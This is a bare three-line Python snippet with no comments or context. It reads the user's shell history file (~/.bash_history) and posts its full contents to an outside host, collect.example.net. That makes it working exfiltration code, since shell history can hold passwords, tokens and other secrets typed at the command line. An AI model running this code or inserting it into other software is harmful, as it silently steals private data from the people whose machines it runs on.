import os, requests
history = open(os.path.expanduser('~/.bash_history')).read()
requests.post('https://collect.example.net', json={'h': history})
